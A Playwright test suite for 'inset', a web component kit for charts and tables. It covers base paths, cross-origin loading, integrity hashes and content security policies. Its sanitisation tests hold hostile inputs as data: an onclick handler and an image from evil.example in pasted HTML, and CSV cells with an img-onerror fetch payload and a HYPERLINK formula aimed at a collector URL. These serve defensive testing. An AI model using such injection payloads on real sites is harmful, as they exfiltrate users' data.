import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { chromiumFlags, findChromium } from '../../scripts/chromium.mjs';
import { integrityOf } from '../../scripts/kit-integrity.mjs';
import { ordersCsv } from '../../scripts/orders.mjs';
import { serveFolder } from '../../scripts/serve-folder.mjs';
import { assertQuiet, eventually, startPortal, visit, type Portal, type Visit } from './start-portal.ts';

const kit = 'packages/inset/dist';
const pages = 'demo/dist';
/** Ten thousand rows do not cost a page 34 MB. */
const withoutDuckdb = /^(arquero|kernels)$/;

interface DrawnChart extends HTMLElement {
  rows: readonly unknown[];
  summary: string;
  data: { result?: { receipt: { engine: string; partial?: true } } };
}

interface Drawn {
  marks: number;
  /** Pixels or shapes that have a colour: an empty drawing has none. */
  ink: number;
  summary: string;
  engine?: string;
  /** Of the first rows only, while the rest is on its way. */
  isPartial: boolean;
  failure?: string;
}

/** What stands in each chart of the page. */
function readCharts(page: Page): Promise<Drawn[]> {
  return page.locator('inset-chart').evaluateAll((charts) =>
    charts.map((each) => {
      const chart = each as DrawnChart;
      const canvas = chart.shadowRoot?.querySelector<HTMLCanvasElement>('.drawing canvas');
      const pixels = canvas?.width
        ? canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height).data
        : [];
      // Axes are lines and words; marks are the rest.
      const shapes = chart.shadowRoot?.querySelectorAll('.drawing svg :is(path, rect, circle)');
      let ink = shapes?.length ?? 0;
      // A colour has channels that differ; axes and words are grey.
      for (let i = 0; i < pixels.length; i += 4) {
        if (pixels[i + 3]! > 200 && Math.abs(pixels[i]! - pixels[i + 2]!) > 40) ink++;
      }
      return {
        marks: chart.rows?.length ?? 0,
        ink,
        summary: chart.summary ?? '',
        engine: chart.data?.result?.receipt.engine,
        isPartial: chart.data?.result?.receipt.partial === true,
        failure: chart.shadowRoot?.querySelector<HTMLElement>('[part~=error]')?.innerText,
      };
    }),
  );
}

/** Waits until every chart of the page is drawn with all of its data, and returns them. */
async function drawnCharts(page: Page, count: number): Promise<Drawn[]> {
  let charts: Drawn[] = [];
  await eventually(async () => {
    charts = await readCharts(page);
    assert.equal(charts.length, count);
    for (const chart of charts) {
      assert.ok(chart.marks > 0 && chart.ink > 0, `not drawn: ${JSON.stringify(chart)}`);
      assert.ok(!chart.isPartial, `not all of it: ${JSON.stringify(chart)}`);
      assert.match(chart.summary, /\d/);
    }
  }, 30_000);
  return charts;
}

const filterFirst = (page: Page): Promise<void> =>
  page.locator('inset-filter').getByRole('checkbox').first().click();

/** Fails unless the filter changes what the charts over its source say, and only those. */
async function assertFilterDrives(page: Page, drives: readonly boolean[]): Promise<void> {
  const before = await drawnCharts(page, drives.length);
  await filterFirst(page);
  await eventually(async () => {
    const changed = (await readCharts(page)).map(({ summary }, i) => summary !== before[i]!.summary);
    assert.deepEqual(changed, drives);
  });
}

describe('plain pages at the server', () => {
  let portal: Portal;
  let guest: Visit;
  before(async () => {
    portal = await startPortal();
    guest = await portal.visit();
  });
  after(() => portal?.close());

  it('one script tag draws a chart', async () => {
    await guest.page.goto(`${portal.url}/script-tag.html`);
    const [chart] = await drawnCharts(guest.page, 1);
    assert.equal(chart!.marks, 4);
    assert.match(chart!.summary, /North/);
    assert.match(chart!.engine!, withoutDuckdb);
    assertQuiet(guest);
  });

  it('a page with a table and a pivot of ten thousand rows is printed on the sheets it needs', async () => {
    const { page } = guest;
    await page.goto(`${portal.url}/script-tag.html`);
    await page.evaluate(() => {
      const src = './samples/orders.csv';
      const pivot = { rows: 'product', columns: 'region, channel', values: 'sum(revenue)' };
      for (const [tag, attributes] of [
        ['inset-table', { src }],
        ['inset-pivot', { src, ...pivot }],
      ] as const) {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
      }
    });
    await page.locator('inset-table [data-row="0"]').first().waitFor();
    await page.locator('inset-pivot tr.line').first().waitFor();
    const sheets = (await page.pdf()).toString('latin1').match(/\/Type\s*\/Page\b(?!s)/g);
    assert.ok(sheets && sheets.length <= 3, `${sheets?.length} sheets`);
    assertQuiet(guest);
  });

  it('one provider, two sources, three charts and a filter are under twenty lines', async () => {
    await guest.page.goto(`${portal.url}/several.html`);
    const text = await (await fetch(`${portal.url}/several.html`)).text();
    const provider = text.slice(text.indexOf('<inset-provider'), text.indexOf('</inset-provider>'));
    assert.ok(provider.split('\n').length < 20);
    await assertFilterDrives(guest.page, [true, true, false, false]);
    await eventually(async () => {
      const metric = guest.page.locator('#kontor inset-metric');
      assert.match(await metric.evaluate(({ shadowRoot }) => shadowRoot!.textContent!), /€/);
    });
    assertQuiet(guest);
  });

  it('words that are late are English until they come', async () => {
    const { page } = guest;
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route(/\/german-/, async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(`${portal.url}/several.html`);
    const pie = (): Promise<string> =>
      page.locator('#kontor inset-chart').evaluate((chart) => (chart as DrawnChart).summary ?? '');
    await eventually(async () => assert.match(await pie(), /^Pie/));
    release();
    await eventually(async () => assert.match(await pie(), /^Kreis/));
    await page.unroute(/\/german-/);
    assertQuiet(guest);
  });

  it('a strict policy with Trusted Types is kept, by the page and by the server', async () => {
    const answer = await guest.page.goto(`${portal.url}/strict-csp.html`);
    assert.match(answer!.headers()['content-security-policy']!, /require-trusted-types-for 'script'/);
    await assertFilterDrives(guest.page, [true]);
    await eventually(async () => {
      assert.ok((await guest.page.locator('inset-table').getByRole('row').count()) > 5);
    });
    assertQuiet(guest);
  });

  it('pasted HTML keeps its form under that policy, and asks for nothing', async () => {
    const { page } = guest;
    await page.goto(`${portal.url}/strict-csp.html`);
    await page.evaluate(() => {
      const text = document.createElement('inset-text');
      text.setAttribute('editable', '');
      text.setAttribute('lang', 'en');
      document.body.append(text);
    });
    await page.locator('inset-text').dblclick();
    await page.locator('inset-text [contenteditable=true]').waitFor();
    await page.evaluate(() => {
      const data = new DataTransfer();
      data.setData('text/plain', 'words');
      data.setData(
        'text/html',
        '<h2 style="color:red">Pasted</h2><p onclick="alert(1)">with <b>weight</b><img src="https://evil.example/a.png"></p>',
      );
      const room = document.querySelector('inset-text')!.shadowRoot!.querySelector('[contenteditable=true]')!;
      const event = { clipboardData: data, bubbles: true, cancelable: true };
      room.dispatchEvent(new ClipboardEvent('paste', event));
    });
    await page.locator('inset-text h2').getByText('Pasted').waitFor();
    assert.equal(await page.locator('inset-text strong').innerText(), 'weight');
    assertQuiet(guest);
  });
});

describe('plain pages at any other host', () => {
  let browser: Browser;
  let folder: string;
  const closing: (() => Promise<unknown>)[] = [];

  before(async () => {
    browser = await chromium.launch({ executablePath: findChromium(), args: chromiumFlags });
    folder = await mkdtemp(join(tmpdir(), 'inset-plain-'));
    closing.push(
      () => rm(folder, { recursive: true, force: true }),
      () => browser.close(),
    );
  });
  after(() => Promise.all(closing.toReversed().map((close) => close())));

  type Site = Awaited<ReturnType<typeof serveFolder>>;

  async function serve(
    folders: Record<string, string>,
    headers?: (path: string) => Record<string, string>,
  ): Promise<Site> {
    const site = await serveFolder(folders, { headers });
    closing.push(site.close);
    return site;
  }

  async function open(url: string, ...others: string[]): Promise<Visit> {
    const guest = await visit(browser, [new URL(url).origin, ...others]);
    closing.push(() => guest.context.close());
    await guest.page.goto(url);
    return guest;
  }

  async function write(name: string, body: string, head = ''): Promise<void> {
    const page = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Test</title>${head}<link rel="icon" href="data:,"><body>${body}</body></html>`;
    await writeFile(join(folder, name), page);
  }

  const chart =
    '<inset-chart src="/samples/orders.csv" mark="bar" x="region" y="sum(revenue)"></inset-chart>';
  const script = '<script type="module" src="/kit/inset.js"></script>';

  for (const base of ['/', '/team/page/']) {
    it(`work below ${base}`, async () => {
      const site = await serve({ [base]: pages, [`${base}kit/`]: kit });
      const guest = await open(`${site.origin}${base}script-tag.html`);
      await drawnCharts(guest.page, 1);
      await guest.page.goto(`${site.origin}${base}several.html`);
      await assertFilterDrives(guest.page, [true, true, false, false]);
      await guest.page.goto(`${site.origin}${base}strict-csp.html`);
      await assertFilterDrives(guest.page, [true]);
      assertQuiet(guest);
    });
  }

  it('work with the kit of another origin, small data and large', async () => {
    await writeFile(join(folder, 'large.csv'), ordersCsv({ rows: 150_000, seed: 3 }));
    const far = await serve({ '/kit/': kit }, () => ({ 'Access-Control-Allow-Origin': '*' }));
    const site = await serve({ '/': folder, '/samples/': `${pages}/samples` });
    const large = chart.replace('/samples/orders.csv', '/large.csv');
    await write('far.html', chart + large, script.replace('/kit/', `${far.origin}/kit/`));
    const guest = await open(`${site.origin}/far.html`, far.origin);
    const charts = await drawnCharts(guest.page, 2);
    assert.match(charts[0]!.engine!, withoutDuckdb);
    assert.match(charts[1]!.summary, /North/);
    assertQuiet(guest);
  });

  it('work with two copies of the kit', async () => {
    const site = await serve({ '/': folder, '/kit/': kit, '/other/': kit, '/samples/': `${pages}/samples` });
    await write(
      'twice.html',
      `<inset-provider>${chart}</inset-provider>${chart}`,
      script + script.replace('/kit/', '/other/'),
    );
    const guest = await open(`${site.origin}/twice.html`);
    await drawnCharts(guest.page, 2);
    assertQuiet(guest);
  });

  it('work with a script tag that has no type', async () => {
    const site = await serve({ '/': folder, '/kit/': kit, '/samples/': `${pages}/samples` });
    await write('classic.html', chart, '<script src="/kit/inset-classic.js"></script>');
    const guest = await open(`${site.origin}/classic.html`);
    await drawnCharts(guest.page, 1);
    assertQuiet(guest);
  });

  it('work with a script tag that has no type, and the hash of its file', async () => {
    const { integrity } = JSON.parse(await readFile(`${kit}/integrity.json`, 'utf8')) as {
      integrity: Record<string, string>;
    };
    const site = await serve({ '/': folder, '/kit/': kit, '/samples/': `${pages}/samples` });
    const hash = integrity['./inset-classic.js'];
    await write('classic.html', chart, `<script src="/kit/inset-classic.js" integrity="${hash}"></script>`);
    const guest = await open(`${site.origin}/classic.html`);
    await drawnCharts(guest.page, 1);
    assertQuiet(guest);
  });

  it('work with an import map, and the engine’s files from another path', async () => {
    const site = await serve({
      '/': folder,
      '/kit/': kit,
      '/far/files/': kit,
      '/samples/': `${pages}/samples`,
    });
    const map = '<script type="importmap">{ "imports": { "inset": "/kit/inset-api.js" } }</script>';
    const start = `<script type="module">import { autoload } from 'inset'; autoload(document);</script>`;
    const provided = `<inset-provider asset-base="/far/files">${chart}</inset-provider>`;
    await write('mapped.html', provided, map + start);
    const guest = await open(`${site.origin}/mapped.html`);
    await drawnCharts(guest.page, 1);
    assert.ok(site.asked.includes('/far/files/inset-worker.js'));
    assert.ok(!site.asked.includes('/kit/inset-worker.js'));
    assertQuiet(guest);
  });

  describe('with the hashes of all scripts', () => {
    /** A page that names them, with the file changed that matches, by a byte. */
    async function guarded(changed?: RegExp): Promise<Visit> {
      const { integrity } = JSON.parse(await readFile(`${kit}/integrity.json`, 'utf8')) as {
        integrity: Record<string, string>;
      };
      assert.deepEqual(integrity, integrityOf(kit));
      const named = Object.entries(integrity).map(([name, hash]) => [name.replace('./', '/kit/'), hash]);
      const head = `<script type="importmap">${JSON.stringify({ integrity: Object.fromEntries(named) })}</script>
<script>addEventListener('inset-load-error', () => (document.title = 'told'))</script>`;
      const tag = `<script type="module" src="/kit/inset.js" integrity="${integrity['./inset.js']}"></script>`;
      await write('guarded.html', chart, head + tag);
      const site = await serve({ '/': folder, '/kit/': kit, '/samples/': `${pages}/samples` });
      const guest = await visit(browser, [site.origin]);
      closing.push(() => guest.context.close());
      if (changed)
        await guest.page.route(changed, async (route) => {
          const response = await route.fetch();
          await route.fulfill({ response, body: `${await response.text()} ` });
        });
      await guest.page.goto(`${site.origin}/guarded.html`);
      return guest;
    }

    it('they are drawn', async () => {
      const guest = await guarded();
      await drawnCharts(guest.page, 1);
      assertQuiet(guest);
    });

    it('nothing runs of a script that has changed', async () => {
      const { page, problems } = await guarded(/\/kit\/inset\.js$/);
      await eventually(async () => assert.match(problems.join('\n'), /integrity/));
      assert.equal(await page.evaluate(() => customElements.get('inset-chart')), undefined);
    });

    it('an element whose code has changed is not there, and the page is told', async () => {
      const { page, problems } = await guarded(/\/kit\/chunks\/chart-[\w-]{8}\.js$/);
      await eventually(async () => assert.equal(await page.title(), 'told'));
      assert.match(problems.join('\n'), /integrity/);
      assert.equal(await page.evaluate(() => customElements.get('inset-chart')), undefined);
    });
  });

  /** A site whose worker has a policy of its own, as servers that send one for every file give it. */
  async function policedWorker(policy: string): Promise<Visit> {
    const site = await serve(
      { '/': folder, '/kit/': kit, '/samples/': `${pages}/samples` },
      (path) => (path.endsWith('.js') ? { 'Content-Security-Policy': policy } : {}) as Record<string, string>,
    );
    await write('worker.html', chart, script);
    return open(`${site.origin}/worker.html`);
  }
  const workerPolicy =
    "default-src 'none'; connect-src 'self' blob:; worker-src 'self' blob:; script-src 'self' blob:";

  it('draw small data where WebAssembly is forbidden', async () => {
    const guest = await policedWorker(`${workerPolicy} 'unsafe-eval'`);
    const [drawn] = await drawnCharts(guest.page, 1);
    assert.match(drawn!.engine!, withoutDuckdb);
    assertQuiet(guest);
  });

  it('answer without arquero where eval is forbidden', async () => {
    const guest = await policedWorker(`${workerPolicy} 'wasm-unsafe-eval'`);
    const [drawn] = await drawnCharts(guest.page, 1);
    assert.notEqual(drawn!.engine, 'arquero');
  });

  it('draw, or say what to allow, where both are forbidden', async () => {
    const guest = await policedWorker(workerPolicy);
    await eventually(async () => {
      const [drawn] = await readCharts(guest.page);
      assert.ok(drawn!.failure ?? drawn!.ink > 0, JSON.stringify(drawn));
      if (drawn!.failure) assert.match(drawn!.failure, /policy|wasm-unsafe-eval/);
    }, 30_000);
  });

  it('say what to allow where no worker may start', async () => {
    const site = await serve({ '/': folder, '/kit/': kit, '/samples/': `${pages}/samples` });
    const policy = `<meta http-equiv="Content-Security-Policy" content="default-src 'self'; worker-src 'none'">`;
    await write('no-worker.html', chart, policy + script);
    const guest = await open(`${site.origin}/no-worker.html`);
    await eventually(async () => {
      const [drawn] = await readCharts(guest.page);
      assert.match(drawn!.failure ?? '', /security policy.*worker-src/);
    });
  });

  it('send nothing anywhere, whatever is in data, words and specifications', async () => {
    const collector = await serve({}, () => ({ 'Access-Control-Allow-Origin': '*' }));
    const away = `${collector.origin}/taken`;
    const cell = `<img src=${away}?cell onerror=fetch('${away}')>`;
    await writeFile(join(folder, 'hostile.csv'), `region,revenue\n${cell},3\n"=HYPERLINK(""${away}"")",4\n`);
    const specs = [
      { data: { url: `${away}.csv` }, mark: 'bar', encoding: { x: { field: 'a' } } },
      {
        data: { values: [{ a: 1, u: `${away}.png` }] },
        mark: 'image',
        encoding: { url: { field: 'u' }, x: { field: 'a' } },
      },
      {
        data: { values: [{ a: 1 }] },
        mark: 'bar',
        encoding: { x: { field: 'a' } },
        usermeta: { embedOptions: { config: `${away}.json`, patch: `${away}.json` } },
      },
    ];
    const body = `<inset-chart src="/hostile.csv" mark="bar" x="region" y="sum(revenue)"></inset-chart>
      <inset-table src="/hostile.csv"></inset-table>
      <inset-text id="words"></inset-text>${specs.map(() => '<inset-chart class="given"></inset-chart>').join('')}
      <script type="module">
        document.querySelector('#words').text = ${JSON.stringify(`![x](${away}.png) ${cell.replace('</', '<')}`).replaceAll('<', '\\u003c')};
        const specs = ${JSON.stringify(specs)};
        document.querySelectorAll('.given').forEach((chart, i) => (chart.spec = specs[i]));
      </script>`;
    await write('hostile.html', body, script);
    const site = await serve({ '/': folder, '/kit/': kit });
    const guest = await visit(browser, [site.origin, collector.origin]);
    closing.push(() => guest.context.close());
    await guest.page.goto(`${site.origin}/hostile.html`);
    await eventually(async () => {
      const charts = await readCharts(guest.page);
      assert.ok(charts[0]!.ink > 0, 'the first chart is not drawn');
      assert.ok(
        charts.slice(1).every(({ ink, failure }) => failure !== undefined || ink > 0),
        JSON.stringify(charts),
      );
      assert.ok((await guest.page.locator('inset-table').getByRole('row').count()) >= 3);
      assert.match(
        await guest.page.locator('#words').evaluate((text) => text.shadowRoot!.textContent!),
        /img src=/,
      );
    });
    await guest.page.waitForLoadState('networkidle');
    assert.deepEqual(collector.asked, []);
  });
});
